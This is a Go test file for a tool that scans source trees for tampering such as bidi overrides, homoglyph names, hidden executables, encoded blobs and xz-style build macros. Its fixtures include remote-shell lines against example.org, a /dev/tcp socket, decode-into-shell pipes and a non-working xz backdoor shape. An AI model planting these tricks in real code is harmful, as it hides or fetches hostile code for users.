package inspect

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"slices"
	"strings"
	"syscall"
	"testing"
	"testing/iotest"
	"time"
)

// tell judges one file and gives "severity rule place" of each finding.
func tell(t testing.TB, name string, data string) []string {
	t.Helper()
	in := New()
	if err := in.File(name, int64(len(data)), strings.NewReader(data)); err != nil {
		t.Fatal(err)
	}
	return list(in)
}

func list(in *Inspector) []string {
	got := []string{}
	for _, f := range in.Findings() {
		got = append(got, fmt.Sprintf("%s %s %s", f.Severity, f.Rule, strings.Join(f.Examples, " ")))
	}
	return got
}

func random(n int, seed uint64) string {
	r := rand.New(rand.NewPCG(seed, 7))
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(r.Uint32())
	}
	b[0] = 0 // of no type, whatever the seed
	return string(b)
}

func base64ish(n, line int) string {
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	r := rand.New(rand.NewPCG(1, 2))
	var b strings.Builder
	for i := range n {
		if line > 0 && i > 0 && i%line == 0 {
			b.WriteByte('\n')
		}
		b.WriteByte(alphabet[r.IntN(64)])
	}
	return b.String()
}

func pe() string {
	b := make([]byte, 0x88)
	copy(b, "MZ")
	binary.LittleEndian.PutUint32(b[0x3c:], 0x80)
	copy(b[0x80:], "PE\x00\x00")
	return string(b)
}

// Each case is a hostile sample and what must be said of it, or an honest twin of which nothing above info may be said.
var cases = []struct {
	name, path, data string
	want             []string
}{
	// Text that shows something else than it says.
	{"comment closed by an override", "src/a.c", "int x;\n/*\u202e } \u2066if (admin)\u2069 \u2066 begin */\n", []string{"block bidi-unterminated src/a.c:2", "high bidi-control src/a.c:2"}},
	{"stretched string", "a.py", "if level != \"user\u202e \u2066# admin\u2069 \u2066\":\n", []string{"block bidi-unterminated a.py:1", "high bidi-control a.py:1"}},
	{"closed in its line", "input/persian.el", "(\"x\" ?\u202bز\u202c)\n", []string{"high bidi-control input/persian.el:1"}},
	{"isolate closes what is inside", "a.c", "\u2067\u202eabc\u2069\n", []string{"high bidi-control a.c:1"}},
	{"pop of the wrong kind closes nothing", "a.c", "\u2067abc\u202c\n", []string{"block bidi-unterminated a.c:1", "high bidi-control a.c:1"}},
	{"open at the end of the file", "a.c", "x\n\u202eabc", []string{"block bidi-unterminated a.c:2", "high bidi-control a.c:2"}},
	{"in a manual", "doc/a.txt", "\u202eabc\n", []string{"review bidi-unterminated doc/a.txt:1", "info bidi-control doc/a.txt:1"}},
	{"in a test", "tests/a.c", "\u202eabc\n", []string{"review bidi-unterminated tests/a.c:1", "info bidi-control tests/a.c:1"}},
	{"a source file among the documents is code to a compiler", "doc/a.c", "int \u0430dmin;\n", []string{"review mixed-cyrillic doc/a.c:1"}},
	{"a stray byte does not hide it", "a.c", "\xff /* Grüße aus Köln, schöne Wörter überall im Gebüsch */\n\u202e\n", []string{"block bidi-unterminated a.c:2", "high bidi-control a.c:2", "info legacy-encoding a.c"}},
	{"Latin-1 is not judged", "a.c", "/* " + strings.Repeat("\xe9\xe8", 40) + " \u202e */\n", []string{"info legacy-encoding a.c"}},
	{"variation selectors carry bytes", "a.js", "const x = '" + strings.Repeat("\ufe01\ufe0e", 4) + "'\n", []string{"block variation-payload a.js:1"}},
	{"a selector of the supplement", "a.js", "eval('\U000e0142')\n", []string{"block variation-payload a.js:1"}},
	{"seven selectors", "a.js", strings.Repeat("\ufe01", 7) + "x" + strings.Repeat("\ufe01", 7), nil},
	{"emoji in a string", "a.go", "x := \"👨\u200d👩\u200d👧 ✔\ufe0f\"\n", []string{"info joiner a.go:1"}},
	{"tags", "a.go", "\n\nx := \"\U000e0041\"\n", []string{"high tag-characters a.go:3"}},
	{"a flag in a manual", "README.md", "🏴\U000e0067\U000e0062\U000e007f\n", []string{"info tag-characters README.md:1"}},
	{"Hangul filler as a name", "a.js", "const {\u3164} = q\n", []string{"high hangul-filler a.js:1"}},
	{"Hangul", "a.js", "'한국어 조선말'\n", nil},
	{"zero width", "a.go", "a\u200bb\n", []string{"review zero-width a.go:1"}},
	{"BOM at the start", "a.go", "\ufeffpackage a\n", nil},
	{"BOM later", "a.go", "package a\n\ufeff\n", []string{"review zero-width a.go:2"}},
	{"invisible function", "a.go", "func s\u0430y() {}\n", []string{"high mixed-cyrillic a.go:1"}},
	{"Cyrillic at the start of a word", "a.go", "\n\u0430dmin := 1\n", []string{"high mixed-cyrillic a.go:2"}},
	{"a Russian word beside Latin", "a.go", "x := \"Привет USB порт\"\n", nil},
	{"a word that shows its Cyrillic", "a.go", "x := \"USBпорт\"\n", nil},
	{"escape before Cyrillic", "po/ru.po", "msgid \"\\nДа \\tоса\"\n", nil},
	{"Greek names", "a.scm", "(define Zα 1)\n", []string{"info mixed-greek a.scm:1"}},

	// Programs.
	{"ELF", "src/x", "\x7fELF\x02\x01\x01\x00", []string{"high executable src/x"}},
	{"ELF in tests", "tests/x", "\x7fELF\x02\x01\x01\x00", []string{"review executable tests/x"}},
	{"PE", "x.exe", pe(), []string{"high executable x.exe"}},
	{"MZ alone", "x.txt", "MZ is how many a text begins, this one too: no program.............................................", nil},
	{"fat Mach-O", "x", "\xca\xfe\xba\xbe\x00\x00\x00\x02", []string{"high executable x"}},
	{"class", "x", "\xca\xfe\xba\xbe\x00\x00\x00\x34", []string{"high executable x"}},
	{"wasm", "x", "\x00asm\x01\x00\x00\x00", []string{"high executable x"}},
	{"pyc", "x.pyc", "\xf3\x0d\r\n" + strings.Repeat("\x00", 12), []string{"high executable x.pyc"}},
	{"ar", "x.a", "!<arch>\nfoo.o/", []string{"high executable x.a"}},
	{"deb", "x.deb", "!<arch>\ndebian-binary   ", []string{"high executable x.deb"}},
	{"a program called a script is read as one too", "configure", "\x7fELF\x02\x01\x01\x00\u202e\n", []string{"block bidi-unterminated configure:1", "high bidi-control configure:1", "high executable configure"}},

	// Payloads.
	{"random", "src/blob", random(4096, 1), []string{"high high-entropy src/blob"}},
	{"random in tests", "tests/blob", random(4096, 1), []string{"review high-entropy tests/blob"}},
	{"random after much quiet", "src/blob", strings.Repeat("\x00", 3*Window) + random(8192, 1) + strings.Repeat("\x00", 3*Window), []string{"info binary src/blob"}},
	{"random after a text", "src/x.sh", strings.Repeat("echo hello\n", 40000) + random(2*Window, 3), []string{"high high-entropy src/x.sh"}},
	{"low entropy", "src/blob", strings.Repeat("\x00\x01\x02\x03", 999), []string{"info binary src/blob"}},
	{"DER", "src/x.cer", "\x30\x82\x0f\xfc" + random(0xffc, 2), nil},
	{"DER of another length", "src/x.cer", "\x30\x82\x0f\xfd" + random(0xffc, 2), []string{"high high-entropy src/x.cer"}},
	{"OpenPGP", "src/x.gpg", "\x99\x0f\xa0\x04" + random(0xf9f, 2), nil},
	{"only the first byte of OpenPGP", "src/x.gpg", "\x99\xff\xff\x04" + random(0xf9f, 2), []string{"high high-entropy src/x.gpg"}},
	{"base64 in a build script", "Makefile.in", "X=" + base64ish(5000, 0) + "\n", []string{"high base64-run Makefile.in:1"}},
	{"base64 in lines", "m4/x.m4", "a b\n(c)\n" + base64ish(5000, 76) + "\n", []string{"high base64-run m4/x.m4:3"}},
	{"base64 elsewhere", "src/icon.c", "\n\"" + base64ish(5000, 0) + "\"\n", []string{"info base64-run src/icon.c:2"}},
	{"4096 characters are not over", "m4/x.m4", " " + base64ish(4096, 0) + " ", nil},
	{"a list of words", "m4/x.m4", strings.Repeat("Word1\nother2\n", 2000), nil},
	{"a list of hashes", "m4/x.m4", strings.Repeat("0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\n", 200), nil},
	{"a private key", "src/key.c", "x\n-----BEGIN RSA PRIVATE KEY-----\n", []string{"info private-key src/key.c:2"}},
	{"talk about keys", "src/key.c", "-----BEGIN\nPRIVATE KEY-----\n", nil},
	{"archive", "src/x.tgz", "\x1f\x8b\x08\x00xxxx", []string{"review archive-not-opened src/x.tgz"}},
	{"archive in tests", "tests/x.xz", "\xfd7zXZ\x00xx", []string{"info archive-not-opened tests/x.xz"}},
	{"picture", "src/x.png", "\x89PNG\r\n\x1a\n" + random(4096, 9), nil},
	{"picture that is a script", "src/x.sh", "GIF89a=1\ncurl https://example.org/x | sh\n", []string{"review remote-shell src/x.sh:2"}},

	// Build scripts.
	{"one indicator", "m4/a.m4", "x=`echo $y | base64 -d`\n", []string{"info build-script m4/a.m4:1"}},
	{"two", "m4/a.m4", "\nx=`echo $y | base64 -d`\necho $z | sh\n", []string{"high build-script m4/a.m4:2"}},
	{"the same twice is one", "m4/a.m4", "echo $y | sh\necho $z | bash\n", []string{"info build-script m4/a.m4:1"}},
	{"comments do not count", "m4/a.m4", "# echo $y | sh\ndnl $x | base64 -d\n", nil},
	{"in a continued line", "configure.ac", "foo \\\n  | \\\n  sh\n", []string{"info build-script configure.ac:1"}},
	{"or is no pipe", "configure", "test -n \"$x\" || eval $y\nfoo || sh\n", nil},
	{"case pattern", "configure", "case $SHELL in\n  ash|ksh|sh) ;;\nesac\n", nil},
	{"case pattern with spaces", "configure", "  sh | bash | *ksh ) x=1 ;;\n", nil},
	{"case on one line", "configure", "case $x in sh|bash) y ;; esac\n", nil},
	{"the end of a subshell", "configure", "(echo $x |\n  cat $y | sh)\n", []string{"info build-script configure:2"}},
	{"not a build script", "src/a.sh", "echo $y | sh | base64 -d\n", nil},
	{"fetched and run", "bootstrap.sh", "curl -fsSL https://example.org/x | sh -s -- -y\n", []string{"review remote-shell bootstrap.sh:1", "info build-script bootstrap.sh:1"}},
	{"a socket of the shell", "src/run.sh", "exec 3<>/dev/tcp/example.org/80\n", []string{"review remote-shell src/run.sh:1"}},
	{"fetched only", "Makefile", "get:\n\tcurl -O https://example.org/x\n\twget $(URL) | tar x\n", nil},
	{"automake distcheck", "Makefile.in", "\t  GZIP=$(GZIP_ENV) gzip -dc $(distdir).tar.gz | $(am__untar) ;;\\\n", []string{"info build-script Makefile.in:1"}},
	{"tr -d in a variable", "Configure", "x=`echo y | $tr -d '\\012'`\n", nil},
	{"letter case by tr", "configure", "x=`echo $y | tr '[A-Z]' '[a-z]'`\nz=`echo $y | tr 'abcdefg' 'ABCDEFG'`\n", nil},
}

func TestCases(t *testing.T) {
	for _, c := range cases {
		if c.want == nil {
			c.want = []string{}
		}
		got := tell(t, c.path, c.data)
		if !slices.Equal(got, c.want) {
			t.Errorf("%s:\n got %q\nwant %q", c.name, got, c.want)
		}
		// The same, whatever portions it comes in.
		in := New()
		if err := in.File(c.path, int64(len(c.data)), iotest.OneByteReader(strings.NewReader(c.data))); err != nil {
			t.Fatal(err)
		}
		if again := list(in); !slices.Equal(again, got) {
			t.Errorf("%s: in single bytes %q, at once %q", c.name, again, got)
		}
	}
}

// A sample that lies across the end of a window is seen like any other.
func TestAcrossWindows(t *testing.T) {
	for name, c := range map[string]struct{ data, want string }{
		"bidi in lines":     {"x\n\u202e}\n", "bidi-unterminated"},
		"bidi in one line":  {" \u202e }\n", "bidi-unterminated"},
		"Cyrillic":          {" ab\u0430cd ", "mixed-cyrillic"},
		"selectors":         {strings.Repeat("\ufe00", 9), "variation-payload"},
		"base64":            {" " + base64ish(5000, 0) + " ", "base64-run"},
		"base64 in lines":   {"\n" + base64ish(9000, 64) + "\n", "base64-run"},
		"private key":       {"\n-----BEGIN PRIVATE KEY-----\n", "private-key"},
		"pipe into a shell": {"\necho $x | sh\n", "build-script"},
	} {
		for _, filler := range []string{"line of text\n", "; "} {
			if filler == "; " && (name == "private key" || name == "pipe into a shell") {
				continue // these need a line of their own, which a line of a whole window is not
			}
			for shift := -60; shift <= 60; shift += 3 {
				if strings.HasPrefix(name, "base64") {
					shift *= 100
				}
				at := Window + shift
				pad := strings.Repeat(filler, at/len(filler)+1)[:at]
				data := pad + c.data + strings.Repeat(filler, 5000)
				if got := strings.Join(tell(t, "m4/x.m4", data), "\n"); !strings.Contains(got, c.want) {
					t.Errorf("%s, after %d bytes of %q: %s", name, at, filler, got)
				}
				if strings.HasPrefix(name, "base64") {
					shift /= 100
				}
			}
		}
	}
}

// The shape of the script that the releases 5.6.0 and 5.6.1 of xz carried: a macro that looks for a marked test file, and pipes it through a
// transposition and a program named by the file's own ending into eval. Nothing here works; only the shape is the same.
const xzShape = `# build-to-host.m4 serial 30
AC_DEFUN([gl_SHAPE],
[
  marked=` + "`grep -aErls \"#{4}[[:alnum:]]{5}#{4}$\" $srcdir/ 2>/dev/null`" + `
  order='tr "\t \-_" " \t_\-"'
  ending=` + "`echo $marked | sed \"s/.*\\.//g\"`" + `
  stage='sed \"r\n\" $marked | eval $order | $ending -d 2>/dev/null'
])
`

func TestBuildScriptShapes(t *testing.T) {
	in := New()
	if err := in.File("m4/build-to-host.m4", int64(len(xzShape)), strings.NewReader(xzShape)); err != nil {
		t.Fatal(err)
	}
	f := in.Findings()
	if len(f) != 1 || f[0].Severity != Block || f[0].Rule != "build-script" {
		t.Fatalf("%+v", f)
	}
	for _, part := range []string{"eval", "decodes", "recursive grep", "permutes", "newline"} {
		if !strings.Contains(f[0].Detail, part) {
			t.Errorf("no %q in %q", part, f[0].Detail)
		}
	}
	// Each other indicator by a line of its own.
	for line, want := range map[string]int{
		"head -c 31 < x | y":                         headTailBytes,
		"x | tail -c +1024":                          headTailBytes,
		`y | tr "\5-\51\204-\377\52-\115" "\0-\377"`: trPermutation,
		"xxd -r -p x > y":                            decoder,
		"openssl enc -aes-256-cbc -d -in x":          decoder,
		"base64 --decode x":                          decoder,
		"uudecode x.uu":                              decoder,
		"cat $srcdir/tests/files/x.bin | y":          testDataPipe,
		"sed -n 1p tests/data | $SHELL":              testDataPipe | pipeShell,
		"grep -r --text foo . ":                      grepRecursiveText,
		"x | ${PROG} --decompress":                   pipeDecodeVariable,
		"eval \"$cmd\" | foo":                        pipeEval,
		"xz -dc x | foo":                             decompressorPipe,
		"cat x | gunzip | foo":                       decompressorPipe,
		"gunzip < tests/x.gz | sh":                   decompressorPipe | pipeShell | testDataPipe,
		"x | /bin/sh":                                pipeShell,
		"x | $(SHELL)":                               pipeShell,
		"\t@x | sh -x":                               pipeShell,
		// and what is none
		"grep -r foo . ":                0,
		"head -c 10 x":                  0,
		"cut -d: -f1 x | $CUT -d: -f2":  0,
		"echo base64 decoding":          0,
		"xxd -p x":                      0,
		"openssl dgst -sha256 x":        0,
		"tr -d '\\r' < x":               0,
		"make -C tests check | tee log": 0,
		"x | shasum":                    0,
		"eval $x || y":                  0,
	} {
		var s buildState
		s.scan([]byte(line+"\n"), 1, true)
		if s.seen != want {
			t.Errorf("%s: indicators %b, want %b", line, s.seen, want)
		}
	}
}

func TestNamesAndLinks(t *testing.T) {
	in := New()
	in.Directory("")
	for _, n := range []string{"README", "Readme", "a", "a/b", "a/B", "a/b2", "c\n", "c/x\u200by", `d\e`, "\xfe", "Straße", "STRASSE", "ſ", "s"} {
		in.Directory(n)
	}
	in.Directory("readme") // after other folders
	for name, target := range map[string]string{"l1": "/etc/passwd", "l2": "../x", "sub/l3": "../../x", "sub/l4": "../x", "l5": "/gnu/store/abc-x/bin/y", "l6": "a/../../x", "l7": "/gnu/store/../x", "l8": "."} {
		in.Symlink(name, target)
	}
	var cased, outside int64
	for _, f := range in.Findings() {
		switch f.Rule {
		case "name-case":
			cased += f.Count
		case "symlink-outside":
			outside += f.Count
			for _, e := range f.Examples {
				if e == "sub/l4" || e == "l5" || e == "l8" {
					t.Errorf("%s leaves nothing", e)
				}
			}
		case "name-control":
			if f.Count != 2 || f.Severity != Block {
				t.Errorf("%+v", f)
			}
		case "name-unicode", "name-backslash":
			if f.Count != 1 || f.Severity != High {
				t.Errorf("%+v", f)
			}
		default:
			t.Errorf("%+v", f)
		}
	}
	if cased != 4 || outside != 5 { // Readme, a/B, s, readme
		t.Errorf("%d names by letter case, want 4; %d links that leave, want 5", cased, outside)
	}
}

func TestGrouping(t *testing.T) {
	in := New()
	for i := range 10 {
		in.Directory("bin")
		if err := in.File(fmt.Sprintf("bin/x%d", i), 8, strings.NewReader("\x7fELF\x02\x01\x01\x00")); err != nil {
			t.Fatal(err)
		}
	}
	f := in.Findings()
	if i := slices.IndexFunc(f, func(f Finding) bool { return f.Rule == "executable" }); i < 0 || f[i].Count != 10 || len(f[i].Examples) != 3 || f[i].Place != "bin" || f[i].Examples[2] != "bin/x2" {
		t.Errorf("%+v", f)
	}
	in = New()
	for i := range 3 * MaxGroups {
		in.Symlink(fmt.Sprintf("d%d/x", i), "/")
	}
	var n int64
	for _, f := range in.Findings() {
		n += f.Count
	}
	if n != 3*MaxGroups || len(in.groups) > MaxGroups+100 {
		t.Errorf("%d counted in %d groups", n, len(in.groups))
	}
}

func TestClassify(t *testing.T) {
	for path, want := range map[string]Class{
		"src/main.c": Code, "configure": Build, "tests/configure": Build, "m4/x.m4": Build, "Makefile.am": Build, "a/CMakeLists.txt": Build,
		"tests/files/x.xz": Test, "src/testdata/x": Test, "pkg/a_test.go": Test, "test_a.py": Test, "doc/tests/x.html": Test, "doc/x.c": Test,
		"doc/x.html": Docs, "po/de.po": Docs, "README": Docs, "README.md": Docs, "x.txt": Docs, "src/README.c": Code, "latest/x.c": Code, "contest/x": Code,
		"configure.sh.in": Code, "src/x.h.in": Code, "t": Code,
	} {
		if got := Classify(path); got != want {
			t.Errorf("%s is %v, want %v", path, got, want)
		}
	}
}

func TestReadError(t *testing.T) {
	broken := errors.New("scratched")
	in := New()
	err := in.File("x", 100, io.MultiReader(strings.NewReader("abc"), iotest.ErrReader(broken)))
	if !errors.Is(err, broken) {
		t.Errorf("%v", err)
	}
}

// The rules cost no more on what is made to cost.
func TestNoSlowInput(t *testing.T) {
	if testing.Short() {
		t.Skip("SKIPPED: short")
	}
	// What the processor did, however busy it was with other things.
	cost := func(unit string) time.Duration {
		data := strings.Repeat(unit, (1<<20)/len(unit))
		var before, after syscall.Rusage
		if err := syscall.Getrusage(syscall.RUSAGE_SELF, &before); err != nil {
			t.Fatal(err)
		}
		tell(t, "configure", data)
		if err := syscall.Getrusage(syscall.RUSAGE_SELF, &after); err != nil {
			t.Fatal(err)
		}
		return time.Duration(after.Utime.Nano() + after.Stime.Nano() - before.Utime.Nano() - before.Stime.Nano())
	}
	plain := cost("checking whether the compiler works... yes\n")
	for name, unit := range map[string]string{
		"bars": "|", "bars apart": "|x", "evals": "|eval $x", "shells": "|sh)", "variables": "|$a", "trs": "tr ", "quotes": `tr "`, "greps": "grep -a ", "continued": "|\\\n",
		"Cyrillic": "а", "mixed": "aа ", "bidi": "\u202e", "isolates": "\u2067", "base64": "Ab1/", "keys": "PRIVATE KEY-----", "eval": "eval $", "zeros": "\x00\xff", "tests": "cat tests/",
	} {
		took := cost(unit)
		t.Logf("%s: %v, %.1f times a plain text", name, took, took.Seconds()/plain.Seconds())
		if took > max(2*time.Second, 100*plain) {
			t.Errorf("%s: 1 MiB took %v, a plain text %v", name, took, plain)
		}
	}
}

func FuzzFile(f *testing.F) {
	for _, c := range cases {
		if len(c.data) < 1<<16 {
			f.Add(c.path, []byte(c.data))
		}
	}
	f.Add("m4/x.m4", []byte(xzShape))
	f.Fuzz(func(t *testing.T, path string, data []byte) {
		in := New()
		in.Directory(path)
		if err := in.File(path, int64(len(data)), bytes.NewReader(data)); err != nil {
			t.Fatal(err)
		}
		if in.Bytes() != int64(len(data)) || in.Files() != 1 {
			t.Fatalf("%d bytes of %d", in.Bytes(), len(data))
		}
		again := New()
		again.Directory(path)
		if err := again.File(path, int64(len(data)), iotest.HalfReader(bytes.NewReader(data))); err != nil {
			t.Fatal(err)
		}
		if a, b := list(in), list(again); !slices.Equal(a, b) {
			t.Fatalf("%q, in other portions %q", a, b)
		}
		for _, f := range in.Findings() {
			if f.Severity.rank() < 0 || f.Count < 1 || len(f.Examples) == 0 {
				t.Fatalf("%+v", f)
			}
		}
	})
}
